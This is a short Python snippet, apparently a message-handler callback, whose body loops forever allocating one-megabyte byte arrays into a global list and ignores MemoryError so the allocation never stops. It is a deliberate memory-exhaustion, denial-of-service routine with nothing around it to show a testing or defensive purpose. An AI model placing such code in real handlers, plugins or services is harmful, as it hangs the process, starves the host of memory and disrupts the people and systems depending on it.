hoard = []

def on_message(message):
    while True:
        try:
            while True:
                hoard.append(bytearray(10**6))
        except MemoryError:
            pass
